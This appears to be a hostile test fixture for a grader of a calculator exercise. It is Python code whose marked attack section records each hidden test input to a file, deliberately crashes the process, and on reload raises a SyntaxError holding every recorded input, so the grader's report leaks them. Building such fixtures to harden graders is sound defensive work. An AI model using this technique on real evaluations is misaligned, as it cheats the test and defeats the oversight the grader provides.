"""Hostile submission `leak-inputs-syntaxerror-on-reload` for the `calculatrice` exercise (see tests/hostile).

Attack: writes every expression it is given to a file next to itself; late in the run,
on an expression its honest part cannot read anyway, it exits, and the fresh process
that reloads it raises SyntaxError with every recorded (hidden) input as the message:
the load error shown in the report and the exports carried them.

Honest part: only + and -, read from left to right; it never raises: what it cannot read
gives 0.0. The attack sits between the `# --- attack ---` and
`# --- end of attack ---` markers; without them the file is its honest part, and what
that part earns is all this submission may ever get.
"""


# --- attack ---
import os
import sys

_SEEN = os.path.join(os.path.dirname(os.path.abspath(__file__)), ".seen")
if os.path.exists(_SEEN):
    with open(_SEEN, encoding="utf-8") as _handle:
        _TEXT = _handle.read()
    raise SyntaxError(_TEXT)
# --- end of attack ---


def _honest(expression):
    """Only + and -, read from left to right; 0.0 for anything it cannot read."""
    total = 0.0
    sign = 1.0
    number = ""
    try:
        for char in expression.replace(" ", ""):
            if char in "+-":
                if number:
                    total += sign * float(number)
                    number = ""
                sign = 1.0 if char == "+" else -1.0
            else:
                number += char
        if number:
            total += sign * float(number)
    except ValueError:
        return 0.0
    return total


def _readable(expression):
    try:
        float(expression.replace(" ", "").replace("+", " ").replace("-", " ").split()[0])
    except (ValueError, IndexError):
        return False
    return all(c in "0123456789.+- " for c in expression)


def calculate(expression: str) -> float:
    # --- attack ---
    with open(_SEEN, "a", encoding="utf-8") as handle:
        handle.write(expression + " | ")
    with open(_SEEN, encoding="utf-8") as handle:
        calls = handle.read().count(" | ")
    if calls >= 36 and not _readable(expression):
        os._exit(0)  # the next test starts a fresh process, which reloads this file
    # --- end of attack ---
    return _honest(expression)
